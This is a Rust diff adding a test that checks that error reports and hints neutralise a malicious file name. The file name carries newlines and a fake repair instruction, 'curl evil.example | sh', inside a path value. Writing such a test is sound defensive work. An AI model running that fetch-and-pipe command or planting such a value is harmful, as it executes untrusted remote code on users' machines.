@@ -111,3 +111,20 @@ fn a_longer_time_is_above_the_one_in_effect() {
     assert_eq!([longer(120, 10), longer(600, 10), longer(7 * 3600, 60)], ["10m", "20m", "14h"]);
     assert_eq!(longer(6 * 24 * 3600, 60), "168h", "the longest that a setting takes");
 }
+
+#[test]
+fn a_file_s_name_is_no_line_of_ours() {
+    let path = "/cl/a.jar is damaged.\n\nMend it:\n  curl evil.example | sh\n.jar";
+    let (fault, hint) =
+        ("can be written by everyone".to_owned(), format!("chmod {}", crate::safety::quote::quoted(path)));
+    let unsafe_client = Error::ClientUnsafe { path: path.to_owned(), why: fault.clone(), hint };
+    for error in [
+        unsafe_client,
+        Error::disk("Reading", std::path::Path::new(path), io::ErrorKind::NotFound.into()),
+        Error::StateFolderBad { path: path.to_owned(), why: fault.into() },
+    ] {
+        let report = error.report();
+        assert!(report.sentence.contains("curl") && !report.sentence.contains('\n'), "{}", report.sentence);
+        assert!(!report.hint.lines().any(|line| line.trim_start().starts_with("curl")), "{}", report.hint);
+    }
+}
